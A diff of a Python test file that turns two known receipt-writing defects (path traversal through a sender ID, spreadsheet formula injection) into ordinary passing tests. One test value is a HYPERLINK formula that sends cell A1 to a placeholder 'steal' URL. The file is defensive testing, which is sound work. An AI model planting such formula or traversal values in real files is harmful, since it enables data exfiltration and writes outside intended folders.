@@ -1,7 +1,7 @@
 """What hostile values do once loaded: the receipts sent back to senders are built from them.
 
-These two are known defects outside the reader (orchestration/reports/receipts.py), marked strict xfail so
-that the fix flips them to a failure that asks for the marker to be removed.
+A sender ID is free text and becomes part of a receipt's file name; a quarantined value is written into
+the receipt's cells: neither may escape the receipts folder or become a live formula.
 """
 
 from __future__ import annotations
@@ -9,14 +9,11 @@ from __future__ import annotations
 import zipfile
 from pathlib import Path
 
-import pytest
-
 from orchestration.reports.receipts import write_receipts
 from tests.hostile.conftest import ingest, place
 from tests.hostile.make_corpus import HEADER, INSURED_HEADER, INSURED_ROWS, PERIOD, ROWS, csv_text
 
 
-@pytest.mark.xfail(strict=True, reason="receipts.py builds the file name from the sender ID as sent")
 def test_a_sender_id_with_dot_dot_slash_cannot_write_a_receipt_outside_the_folder(tmp_path: Path) -> None:
     raw = tmp_path / "raw"
     row = list(INSURED_ROWS[0])
@@ -30,7 +27,6 @@ def test_a_sender_id_with_dot_dot_slash_cannot_write_a_receipt_outside_the_folde
     assert all(p.resolve().is_relative_to(out.resolve()) for p in written), written
 
 
-@pytest.mark.xfail(strict=True, reason="receipts.py writes values with xlsxwriter's write(): '=...' becomes a formula")
 def test_a_quarantined_value_that_looks_like_a_formula_stays_text_in_the_receipt(landing: Path) -> None:
     rows = [list(r) for r in ROWS]
     rows[0][4] = '=HYPERLINK("http://example.invalid/steal?"&A1,"Bấm vào đây")'  # an unknown sector code
